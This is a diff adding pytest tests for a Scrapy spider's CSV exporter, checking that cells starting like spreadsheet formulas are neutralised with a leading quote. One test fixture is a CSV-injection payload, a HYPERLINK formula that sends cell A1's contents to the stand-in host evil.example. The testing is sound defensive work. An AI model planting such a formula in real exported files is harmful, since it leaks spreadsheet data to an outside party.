@@ -11,8 +11,11 @@ import csv
 import io
 
 import pytest
+from scrapy.utils.misc import build_from_crawler
+from scrapy.utils.test import get_crawler
 
 from tests.items import TITLES, note
+from xhs_spider.csv_cells import cell_text
 from xhs_spider.exporters import SpreadsheetCsvItemExporter, csv_columns
 from xhs_spider.items import NoteItem
 from xhs_spider.schemas import load_schema
@@ -85,3 +88,43 @@ def test_items_are_not_changed_by_exporting():
     exporter = SpreadsheetCsvItemExporter(io.BytesIO())
     exporter.export_item(item)
     assert dict(item) == before
+
+
+# Formulas --------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    (FORMULA, "'" + FORMULA), ("+1 800", "'+1 800"), ("-hi", "'-hi"), ("@sum", "'@sum"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain = text", "plain = text"), ("", ""),
+    (-3, "-3"), (-2.5, "-2.5"), (None, ""), ([-1, 2], "-1 | 2"), (["=a", "b"], "'=a | b"),
+    (["a", "=b"], "a | =b"), ({"k": "=v"}, '{"k": "=v"}'),
+])
+def test_text_cells_starting_like_a_formula_get_a_quote_numbers_do_not(value, cell):
+    assert cell_text(value) == cell
+    quoted = cell.startswith("'")
+    assert cell_text(value, raw_text=True) == (cell[1:] if quoted else cell)
+
+
+@pytest.mark.parametrize(("settings", "title"), [({}, "'" + FORMULA), ({"XHS_CSV_RAW_TEXT": "true"}, FORMULA)])
+def test_the_exporter_scrapy_builds_follows_xhs_csv_raw_text(settings, title):
+    file = io.BytesIO()
+    # As FeedExporter builds it for crawl -O x.csv.
+    exporter = build_from_crawler(SpreadsheetCsvItemExporter, get_crawler(settings_dict=settings), file)
+    exporter.start_exporting()
+    exporter.export_item(NoteItem(note(1, FORMULA, counts={"likes": -3})))
+    exporter.finish_exporting()
+    (row,) = csv.DictReader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline=""))
+    assert (row["title"], row["counts.likes"]) == (title, "-3")
+
+
+@pytest.mark.parametrize(("item_class", "content"), [
+    (None, b""), ("xhs_spider.items.NoteItem", BOM + ",".join(csv_columns(load_schema("note"))).encode() + b"\r\n"),
+])
+def test_a_file_of_a_known_item_class_gets_its_header_without_items(item_class, content):
+    file = io.BytesIO()
+    exporter = SpreadsheetCsvItemExporter(file, item_class=item_class)
+    exporter.start_exporting()
+    exporter.finish_exporting()
+    assert file.getvalue() == content
